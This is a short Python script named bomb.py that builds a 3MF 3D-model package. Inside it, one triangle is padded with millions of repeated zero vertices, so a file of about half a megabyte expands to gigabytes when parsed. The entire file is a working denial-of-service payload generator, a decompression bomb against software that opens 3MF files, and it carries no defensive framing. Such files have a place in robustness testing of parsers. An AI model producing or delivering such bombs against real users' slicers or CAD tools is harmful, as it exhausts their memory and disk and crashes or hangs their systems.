"""bomb.py FILE VERTICES - writes a 3MF of one triangle and so many vertices more, of which 16 take a
byte: 8 million of them are 520 kB, and some gigabytes where they are read."""
import sys
import zipfile

TYPES = """<?xml version="1.0"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels"
 ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="model"
 ContentType="application/vnd.ms-package.3dmanufacturing-3dmodel+xml"/></Types>"""
RELATIONS = """<?xml version="1.0"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Target="/3D/3dmodel.model" Id="r"
 Type="http://schemas.microsoft.com/3dmanufacturing/2013/01/3dmodel"/></Relationships>"""
BEGIN = b"""<?xml version="1.0"?>
<model unit="millimeter" xmlns="http://schemas.microsoft.com/3dmanufacturing/core/2015/02">
<resources><object id="1" type="model"><mesh><vertices>
<vertex x="1" y="0" z="0"/><vertex x="0" y="1" z="0"/><vertex x="0" y="0" z="1"/>"""
END = b"""</vertices><triangles><triangle v1="0" v2="1" v3="2"/></triangles></mesh></object>
</resources><build><item objectid="1"/></build></model>"""

with zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED) as package:
    package.writestr("[Content_Types].xml", TYPES)
    package.writestr("_rels/.rels", RELATIONS)
    with package.open("3D/3dmodel.model", "w", force_zip64=True) as part:
        part.write(BEGIN)
        for _ in range(int(sys.argv[2]) // 10000):
            part.write(b'<vertex x="0" y="0" z="0"/>' * 10000)
        part.write(END)
